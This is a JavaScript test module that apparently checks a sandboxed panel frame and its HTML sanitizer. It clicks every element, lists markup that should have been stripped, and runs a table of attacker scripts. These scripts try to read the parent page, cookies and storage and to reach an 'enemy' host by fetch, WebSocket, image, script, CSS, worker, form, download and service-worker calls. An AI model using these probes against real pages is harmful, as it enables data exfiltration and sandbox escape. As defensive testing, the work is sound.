// What an attacker does in a panel frame: clicks, and scripts that would run if the cleaner and the policy were deceived.

/**
 * What an attack began has reached the network when this is done: frames are drawn, the page has nothing left to do or has
 * drawn many more frames, and later requests of the page were answered. `path` is an address of its server.
 */
export async function settle(page, path = '/favicon.ico') {
  await page.evaluate(async (address) => {
    const frame = () => new Promise((done) => requestAnimationFrame(done));
    for (let i = 0; i < 3; i++) {
      let idle = false;
      requestIdleCallback(() => { idle = true; });
      await frame();
      await fetch(address).catch(() => {});
      for (let frames = 0; !idle && frames < 12; frames++) await frame();
    }
  }, path).catch(() => {});
}

/** Clicks everything that can be clicked, with the mouse. An element without a place in the window is left out. */
export async function clickAll(frame, after = async () => {}) {
  const page = 'page' in frame ? frame.page() : frame;
  for (const element of await frame.$$('a, button, summary, input, video, label, svg').catch(() => [])) {
    try {
      await element.evaluate((it) => it.scrollIntoView({ block: 'nearest', behavior: 'instant' }));
      const box = await element.boundingBox();
      if (box) await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    } catch {
      // The attack has removed it, or its document.
    }
    await after();
  }
}

/** What the cleaner should have removed. */
export function leftIn(frame) {
  return frame.evaluate(() => [...document.querySelectorAll('main *')].flatMap((element) => [
    ...(/^(script|style|svg|math|form|iframe|object|embed|link|meta|base|template|video|audio|noscript|picture)$/.test(element.localName) ? [element.localName] : []),
    ...[...element.attributes].filter((one) => /^on|^style$|^id$|^name$|^srcset$|^ping$|^target$|^popover/.test(one.name)).map((one) => one.name),
  ]));
}

/** What a script tries that runs in the frame. Each gives what it got, or the name of the error. */
export const scripts = {
  'the DOM of the page': () => parent.document.title,
  'a property of the page': () => parent.panelTest,
  'the address of the page': () => top.location.href,
  cookies: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((done, fail) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => done('opened');
    request.onerror = () => fail(request.error);
  }),
  fetch: (enemy) => fetch(`${enemy}/s1`, { mode: 'no-cors' }).then(() => 'sent'),
  'fetch of our server': () => fetch('/api/login', { method: 'POST', mode: 'no-cors' }).then(() => 'sent'),
  XMLHttpRequest: (enemy) => new Promise((done, fail) => {
    const request = new XMLHttpRequest();
    request.onload = () => done('sent');
    request.onerror = () => fail(new Error('blocked'));
    request.open('GET', `${enemy}/s2`);
    request.send();
  }),
  WebSocket: (enemy) => new Promise((done, fail) => {
    const socket = new WebSocket(enemy.replace('http', 'ws'));
    socket.onopen = () => done('opened');
    socket.onerror = () => fail(new Error('blocked'));
  }),
  EventSource: (enemy) => new Promise((done, fail) => {
    const source = new EventSource(`${enemy}/s3`);
    source.onopen = () => done('opened');
    source.onerror = () => fail(new Error('blocked'));
  }),
  image: (enemy) => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done('loaded');
    image.onerror = () => fail(new Error('blocked'));
    image.src = `${enemy}/s4`;
  }),
  'script element': (enemy) => new Promise((done, fail) => {
    const script = document.createElement('script');
    script.onload = () => done('loaded');
    script.onerror = () => fail(new Error('blocked'));
    script.src = `${enemy}/s5.js`;
    document.body.append(script);
  }),
  'style element': (enemy) => {
    const style = document.createElement('style');
    style.textContent = `@import '${enemy}/s6.css'; body { background: url(${enemy}/s6b) }`;
    document.head.append(style);
    if (style.sheet && style.sheet.cssRules.length > 0) return 'applied';
    throw new Error('blocked');
  },
  font: (enemy) => new FontFace('x', `url(${enemy}/s7)`).load().then(() => 'loaded'),
  worker: (enemy) => new Worker(`${enemy}/s8.js`) && 'started',
  'worker from text': () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => done('started');
    worker.onerror = () => fail(new Error('blocked'));
  }),
  // In a task of its own: the test's way to run script may evaluate text, a script of the frame may not.
  eval: () => new Promise((done, fail) => setTimeout(() => {
    try { done((0, eval)('"evaluated"')); } catch (error) { fail(error); }
  })),
  'a function from text': () => new Promise((done, fail) => setTimeout(() => {
    try { done(new Function('return "evaluated"')()); } catch (error) { fail(error); }
  })),
  innerHTML: () => {
    document.body.innerHTML = '<img>';
    return 'set';
  },
  'a policy of its own': () => trustedTypes.createPolicy('evil', { createHTML: (text) => text }) && 'made',
  open: (enemy) => {
    if (window.open(`${enemy}/s9`)) return 'opened';
    throw new Error('blocked');
  },
  'top navigation': (enemy) => {
    top.location = `${enemy}/s10`;
    throw new Error('nothing happened');
  },
  form: (enemy) => {
    const form = document.createElement('form');
    form.action = `${enemy}/s11`;
    document.body.append(form);
    form.submit();
    throw new Error('nothing happened');
  },
  download: (enemy) => {
    const link = document.createElement('a');
    link.href = `${enemy}/s12`;
    link.download = 'x';
    link.click();
    throw new Error('nothing happened');
  },
  clipboard: () => navigator.clipboard.readText().then(() => 'read'),
  geolocation: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('found'), fail)),
  'service worker': (enemy) => navigator.serviceWorker.register(`${enemy}/s13.js`).then(() => 'registered'),
};
